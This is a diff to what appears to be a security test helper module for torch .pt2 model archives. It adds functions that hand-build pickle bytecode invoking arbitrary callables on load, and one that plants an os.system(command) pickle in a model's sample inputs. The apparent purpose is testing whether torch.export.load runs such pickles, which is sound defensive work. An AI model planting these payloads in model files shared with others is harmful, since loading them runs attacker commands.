@@ -3,6 +3,7 @@ bench/abuse.py."""
 
 from __future__ import annotations
 
+import io
 import threading
 import zipfile
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -131,3 +132,53 @@ class Silent:
         self.release.set()
         self.server.shutdown()
         self.server.server_close()
+
+
+# --- .pt2 archives and pickles that torch.export.load would run -------------------------------
+
+def rewrite(src: Path, dst: Path, replace: dict | None = None, add: dict | None = None) -> Path:
+    """A copy of `src` with members replaced (name suffix -> bytes, or a function of the old bytes)
+    and members added (name -> bytes or ZipInfo -> bytes), written with Python's zipfile."""
+    replace, add = replace or {}, add or {}
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
+        for info in zin.infolist():
+            data = zin.read(info)
+            for suffix, new in replace.items():
+                if info.filename.endswith(suffix):
+                    data = new(data) if callable(new) else new
+            zout.writestr(info, data)
+        for name, data in add.items():
+            zout.writestr(name, data)
+    return dst
+
+
+def reduce_pickle(module: str, name: str, arg: str) -> bytes:
+    """Protocol 2: GLOBAL module.name, (arg,), REDUCE - i.e. module.name(arg) when unpickled."""
+    text = arg.encode()
+    return (b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X" + len(text).to_bytes(4, "little") + text
+            + b"\x85R.")
+
+
+def stack_global_pickle(module: str, name: str, arg: str, short: bool = False) -> bytes:
+    """Protocol 4: the callable named by two strings and STACK_GLOBAL, then REDUCE. Strings as
+    BINUNICODE, or as pickle.dumps writes them (SHORT_BINUNICODE) with `short`."""
+    def text(s: str) -> bytes:
+        if short:
+            return b"\x8c" + bytes([len(s)]) + s.encode()
+        return b"X" + len(s).to_bytes(4, "little") + s.encode()
+    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(arg) + b"\x85R."
+
+
+def swap_data_pkl(torch_save_zip: bytes, data_pkl: bytes) -> bytes:
+    """A torch.save zip with its data.pkl replaced (the storages stay)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(torch_save_zip)) as zin, zipfile.ZipFile(out, "w") as zout:
+        for info in zin.infolist():
+            zout.writestr(info, data_pkl if info.filename.endswith("data.pkl") else zin.read(info))
+    return out.getvalue()
+
+
+def planted_sample_inputs(src: Path, dst: Path, command: str) -> Path:
+    """(1) The sample inputs' data.pkl replaced by os.system(command)."""
+    evil = reduce_pickle("os", "system", command)
+    return rewrite(src, dst, replace={"data/sample_inputs/model.pt": lambda b: swap_data_pkl(b, evil)})
